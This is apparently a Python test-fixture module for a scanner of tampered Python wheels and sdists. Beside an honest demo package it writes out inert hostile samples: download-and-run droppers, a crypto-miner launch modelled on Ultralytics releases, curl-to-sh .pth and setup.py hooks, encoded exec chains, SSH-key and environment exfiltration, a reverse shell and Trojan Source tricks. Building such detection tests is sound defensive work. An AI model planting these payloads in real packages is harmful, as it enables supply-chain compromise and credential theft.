"""Honest packages built here from a small git repository, and tampered copies of them.

Every sample is inert: URLs point at example.invalid or 127.0.0.1, no real pool
or host, and nothing here is ever imported or run by the tests.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from tests.conftest import run_git

NAME = "demo"
VERSION = "1.0.0"

HONEST: dict[str, str] = {
    "src/demo/__init__.py": (
        '"""A small honest package."""\n\n'
        "from demo.downloads import fetch_model\n\n"
        '__all__ = ["fetch_model"]\n'
    ),
    "src/demo/downloads.py": (
        '"""Models are downloaded on request; git tells the version."""\n\n'
        "import subprocess\n"
        "import urllib.request\n"
        "from pathlib import Path\n\n\n"
        "def fetch_model(url: str, target: Path) -> Path:\n"
        "    with urllib.request.urlopen(url) as response:\n"
        "        target.write_bytes(response.read())\n"
        "    return target\n\n\n"
        "def git_version() -> str:\n"
        '    done = subprocess.run(["git", "describe"], capture_output=True, text=True)\n'
        "    return done.stdout.strip()\n"
    ),
    "src/demo/data/config.json": '{"models": ["small", "large"]}\n',
    "README.md": "# demo\n\nInstall with `curl -LsSf https://example.invalid/install.sh | sh`.\n",
    "pyproject.toml": (
        "[build-system]\n"
        'requires = ["setuptools"]\n'
        'build-backend = "setuptools.build_meta"\n\n'
        "[project]\n"
        f'name = "{NAME}"\nversion = "{VERSION}"\n'
    ),
}

# Ultralytics 8.3.41: a changed module that downloads and runs a binary when a function is called.
RUNNER = (
    "import os\n"
    "import subprocess\n"
    "import urllib.request\n"
    "from pathlib import Path\n\n\n"
    "def fetch_model(url: str, target: Path) -> Path:\n"
    "    with urllib.request.urlopen(url) as response:\n"
    "        target.write_bytes(response.read())\n"
    "    _prepare()\n"
    "    return target\n\n\n"
    "def _prepare() -> None:\n"
    '    urllib.request.urlretrieve("http://example.invalid/runner", "/tmp/demo_runner")\n'
    '    os.chmod("/tmp/demo_runner", 0o755)\n'
    '    subprocess.Popen(["/tmp/demo_runner", "-o", "127.0.0.1:3333"])\n'
)
# Ultralytics 8.3.46: a wget of a miner and a nohup launch in __init__.py.
MINER_INIT = (
    "import os\n\n"
    'os.system("wget -q http://example.invalid/xmrig -O /tmp/xmrig && chmod +x /tmp/xmrig '
    '&& nohup /tmp/xmrig -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1 &")\n'
    "from demo.downloads import fetch_model\n"
)
PTH_SHELL = 'import os; os.system("curl -s http://example.invalid/p | sh")\n'
CHAIN_SOURCE = (
    "import urllib.request, os, subprocess\n"
    'urllib.request.urlretrieve("http://example.invalid/x", "/tmp/x")\n'
    'os.chmod("/tmp/x", 0o755)\n'
    'subprocess.Popen(["/tmp/x"])\n'
)
SETUP_CMDCLASS = (
    "import urllib.request\n"
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n\n\n"
    "class PostInstall(install):\n"
    "    def run(self):\n"
    "        install.run(self)\n"
    '        payload = urllib.request.urlopen("http://example.invalid/payload").read()\n'
    "        exec(payload)\n\n\n"
    'setup(name="demo", version="1.0.0", cmdclass={"install": PostInstall})\n'
)
EXFIL = (
    "import os\n"
    "import requests\n\n\n"
    "def report() -> None:\n"
    '    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
    '    requests.post("http://example.invalid/collect", data={"k": key})\n'
)


def encoded_chain(source: str = CHAIN_SOURCE) -> str:
    """A base64 -> zlib -> exec chain (the payload is CHAIN_SOURCE, inert)."""
    blob = base64.b64encode(zlib.compress(source.encode())).decode()
    return f'import base64, zlib\nexec(zlib.decompress(base64.b64decode("{blob}")))\n'


def json_payload() -> str:
    """A data file whose base64 value is a dropper (read and run by other code)."""
    return json.dumps({"settings": base64.b64encode(CHAIN_SOURCE.encode()).decode()})


# (sample, files changed or added in the honest wheel, the rule that must catch it)
TAMPERED_WHEELS: list[tuple[str, dict[str, str | bytes], str]] = [
    (
        "changed module downloads and runs a binary (8.3.41)",
        {"demo/downloads.py": RUNNER},
        "inspect-download-exec",
    ),
    (
        "wget of xmrig and nohup in __init__.py (8.3.46)",
        {"demo/__init__.py": MINER_INIT},
        "inspect-miner",
    ),
    ("added .pth that pipes curl into sh", {"demo-init.pth": PTH_SHELL}, "inspect-pth"),
    (
        "base64 -> zlib -> exec chain",
        {"demo/_compat.py": encoded_chain()},
        "inspect-decode-exec",
    ),
    (
        "payload hidden under dist/",
        {"dist/helper.py": CHAIN_SOURCE},
        "inspect-download-exec",
    ),
    (
        "payload hidden in a .json file",
        {"demo/data/config.json": json_payload()},
        "inspect-download-exec",
    ),
    ("payload in a .md file", {"demo/NOTES.md": CHAIN_SOURCE}, "inspect-download-exec"),
    (
        "credential file sent over the network",
        {"demo/telemetry.py": EXFIL},
        "inspect-credential-exfil",
    ),
    (
        "native binary in a pure wheel",
        {"demo/_speedups.bin": b"\x7fELF\x02\x01\x01" + bytes(64)},
        "inspect-native-in-pure",
    ),
    (
        "discord webhook with its token",
        {
            "demo/notify.py": 'URL = "https://discord.com/api/webhooks/123456789012/'
            + "a" * 40
            + '"\n'
        },
        "inspect-webhook",
    ),
    (
        "bidi control in code (Trojan Source)",
        {
            "demo/admin.py": 'access = "user"\n'
            'if access != "none\u202e \u2066# admin\u2069 \u2066":\n    pass\n'
        },
        "inspect-unicode",
    ),
    (
        "confusable identifier",
        {"demo/auth.py": "def is_\u0430dmin(user):\n    return False\n"},
        "inspect-unicode",
    ),
    (
        "fullwidth exec of decoded data",
        {
            "demo/x.py": "import base64\n"
            "\uff45\uff58\uff45\uff43(base64.b64decode('cHJpbnQoMSk='))\n"
        },
        "inspect-decode-exec",
    ),
    (
        "exec of a downloaded page",
        {
            "demo/update.py": "import urllib.request\n"
            "exec(urllib.request.urlopen('http://127.0.0.1:9/u').read())\n"
        },
        "inspect-remote-exec",
    ),
    (
        "obfuscated import of os.system",
        {
            "demo/y.py": "getattr(__import__('os'), 'system')"
            "('wget http://example.invalid/a -O /tmp/a; chmod +x /tmp/a')\n"
        },
        "inspect-download-exec",
    ),
    (
        "environment dumped to a server",
        {
            "demo/z.py": "import os, requests\n"
            "requests.post('http://example.invalid', json=dict(os.environ))\n"
        },
        "inspect-credential-exfil",
    ),
    (
        "reverse shell in __init__.py",
        {
            "demo/__init__.py": "import os, pty, socket\n"
            "s = socket.socket()\n"
            "s.connect(('127.0.0.1', 9))\n"
            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
            "pty.spawn('/bin/sh')\n"
        },
        "inspect-reverse-shell",
    ),
    (
        "connects when imported",
        {"demo/__init__.py": "import socket\nsocket.create_connection(('127.0.0.1', 9))\n"},
        "inspect-import-time",
    ),
]


# (sample, files added to the honest sdist, the rule that must catch it)
TAMPERED_SDISTS: list[tuple[str, dict[str, str | bytes], str]] = [
    (
        "setup.py cmdclass fetches and runs a payload",
        {"setup.py": SETUP_CMDCLASS},
        "inspect-remote-exec",
    ),
    (
        "setup.py runs a shell dropper",
        {"setup.py": "import os\nos.system('curl -s http://example.invalid/i | sh')\n"},
        "inspect-download-exec",
    ),
]


def make_repository(root: Path, files: dict[str, str] | None = None, tag: str = "v1.0.0") -> Path:
    """A git repository holding the honest project, tagged at its version."""
    root.mkdir(parents=True, exist_ok=True)
    for name, text in (files or HONEST).items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    run_git(root, "init", "-q", "-b", "main")
    run_git(root, "add", "-A")
    run_git(root, "commit", "-q", "-m", "release")
    run_git(root, "tag", tag)
    return root


def package_files(files: dict[str, str] | None = None) -> dict[str, bytes]:
    """The importable files of the project (``src/`` stripped), as a wheel holds them."""
    found = {}
    for name, text in (files or HONEST).items():
        if name.startswith("src/"):
            found[name.removeprefix("src/")] = text.encode()
    return found


def _record_hash(data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"sha256={digest}"


def write_wheel(
    folder: Path,
    files: dict[str, bytes],
    *,
    name: str = NAME,
    version: str = VERSION,
    pure: bool = True,
    record: bool = True,
    skip_in_record: tuple[str, ...] = (),
) -> Path:
    """A wheel with METADATA, WHEEL and a RECORD that matches (unless told otherwise)."""
    dist_info = f"{name}-{version}.dist-info"
    members = dict(files)
    members[f"{dist_info}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
    )
    purelib = "true" if pure else "false"
    members[f"{dist_info}/WHEEL"] = (
        f"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: {purelib}\nTag: py3-none-any\n"
    ).encode()
    if record:
        lines = [
            f"{member},{_record_hash(data)},{len(data)}"
            for member, data in members.items()
            if member not in skip_in_record
        ]
        lines.append(f"{dist_info}/RECORD,,")
        members[f"{dist_info}/RECORD"] = ("\n".join(lines) + "\n").encode()
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return path


def write_sdist(
    folder: Path, files: Mapping[str, str | bytes], *, name: str = NAME, version: str = VERSION
) -> Path:
    """A .tar.gz sdist: ``name-version/`` with PKG-INFO and the given files."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}-{version}.tar.gz"
    top = f"{name}-{version}"
    members: dict[str, bytes] = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
    }
    for member, data in files.items():
        members[member] = data.encode() if isinstance(data, str) else data
    with tarfile.open(path, "w:gz") as archive:
        for member, data in members.items():
            info = tarfile.TarInfo(f"{top}/{member}")
            info.size = len(data)
            info.mtime = 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return path
